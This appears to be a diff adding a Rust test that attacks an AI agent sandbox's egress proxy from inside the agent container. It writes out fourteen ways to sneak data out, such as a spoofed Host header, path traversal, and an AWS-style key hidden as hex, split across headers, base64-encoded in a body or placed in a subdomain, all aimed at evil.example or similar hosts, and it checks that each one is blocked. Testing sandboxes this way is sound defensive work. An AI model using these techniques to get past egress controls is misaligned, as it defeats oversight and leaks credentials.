@@ -1,0 +1,96 @@
+//! Escape class: the egress proxy, attacked from inside a real bottle's
+//! agent container as the agent, over raw HTTP to the bundle. Each attack
+//! is refused with the marker, and the audit log keeps no secret.
+
+mod support;
+
+use std::sync::Mutex;
+
+use support::docker::{docker_ok, Env};
+
+static SERIAL: Mutex<()> = Mutex::new(());
+
+const MARKER: &str = "bb egress blocked this request";
+const KEY: &str = "AKIAIOSFODNN7EXAMPLE";
+
+/// Send `request` (with `\r\n` escapes) to the proxy from inside the agent.
+fn from_agent(agent: &str, request: &str) -> String {
+    let out = std::process::Command::new("docker")
+        .args([
+            "exec",
+            "-u",
+            "node",
+            "-e",
+            &format!("REQ={request}"),
+            agent,
+            "bash",
+            "-c",
+        ])
+        .arg("exec 3<>/dev/tcp/sidecars/9099; printf '%b' \"$REQ\" >&3; timeout 10 cat <&3")
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+#[test]
+fn the_proxy_refuses_each_way_around_it() {
+    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
+    if !docker_ok() {
+        return;
+    }
+    let env = Env::new("");
+    // A route with a path allowlist besides the fake bottle's own.
+    let bottle = env.home().join("bottles/fake.md");
+    let text = std::fs::read_to_string(&bottle).unwrap().replace(
+        "  allowlist: [example.com]",
+        "    - host: paths.example.com\n      path_allowlist: [/allowed/]\n  allowlist: [example.com]",
+    );
+    std::fs::write(&bottle, text).unwrap();
+    let slug = env.start();
+    let agent = format!("bb-{slug}");
+    let hex: String = KEY.bytes().map(|b| format!("{b:02x}")).collect();
+    let get = |url: &str, headers: &str| {
+        let host = url.split('/').nth(2).unwrap_or("");
+        format!("GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\n{headers}Connection: close\\r\\n\\r\\n")
+    };
+    let b64 = "QUtJQUlPU0ZPRE5ON0VYQU1QTEU="; // AKIAIOSFODNN7EXAMPLE
+    let body = format!("data={b64}");
+    // (what, the request, what the refusal must say)
+    let attacks: Vec<(&str, String, &str)> = vec![
+        ("a host not allowed", get("http://evil.example/", ""), "host evil.example is not in"),
+        ("an IP literal", get("http://192.0.2.10/", ""), "is an IP address"),
+        ("a spoofed Host", "GET http://evil.example/ HTTP/1.1\\r\\nHost: example.com\\r\\nConnection: close\\r\\n\\r\\n".into(), "evil.example"),
+        ("another port, plain", get("http://example.com:8081/", ""), "port 8081 is not allowed"),
+        ("another port, CONNECT", "CONNECT example.com:8081 HTTP/1.1\\r\\nHost: example.com:8081\\r\\n\\r\\n".into(), "port 8081 is not allowed"),
+        ("a path climbing out", get("http://paths.example.com/allowed/../secret", ""), "cannot be checked safely"),
+        ("an encoded climb", get("http://paths.example.com/allowed/%2e%2e/secret", ""), "cannot be checked safely"),
+        ("a credential over plain HTTP", get("http://api.example.com/", ""), "only over https"),
+        ("a key in the path", get(&format!("http://example.com/x/{KEY}"), ""), "aws-access-key-id"),
+        ("a hex key in the path", get(&format!("http://example.com/x/{hex}"), ""), "aws-access-key-id"),
+        ("a lower-cased key in a header", get("http://example.com/", &format!("X-K: {}\\r\\n", KEY.to_ascii_lowercase())), "aws-access-key-id"),
+        ("a key split over two headers", get("http://example.com/", &format!("X-A: {}\\r\\nX-B: {}\\r\\n", &KEY[..10], &KEY[10..])), "aws-access-key-id"),
+        ("a base64 key in the body", format!("POST http://example.com/up HTTP/1.1\\r\\nHost: example.com\\r\\nContent-Length: {}\\r\\nConnection: close\\r\\n\\r\\n{body}", body.len()), "aws-access-key-id"),
+        ("a key in a subdomain", "CONNECT akiaiosfodnn7example.example.com:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".into(), "host looks like a secret"),
+    ];
+    for (what, request, why) in &attacks {
+        let answer = from_agent(&agent, request);
+        assert!(answer.starts_with("HTTP/1.1 403"), "{what}: {answer}");
+        assert!(answer.contains(MARKER), "{what}: {answer}");
+        assert!(answer.contains(why), "{what}: {answer}");
+        // The refusal says how to ask, and names no internal address.
+        assert!(answer.contains("supervise tool"), "{what}: {answer}");
+        assert!(
+            !answer.contains("172.") && !answer.contains("192.168."),
+            "{what}: {answer}"
+        );
+    }
+    let audit_path = env.home().join(format!("state/{slug}/audit.jsonl"));
+    let audit = std::fs::read_to_string(&audit_path).unwrap();
+    assert!(!audit.to_ascii_uppercase().contains(KEY), "{audit}");
+    assert!(!audit.contains(&hex), "{audit}");
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(
+        std::fs::metadata(&audit_path).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+}
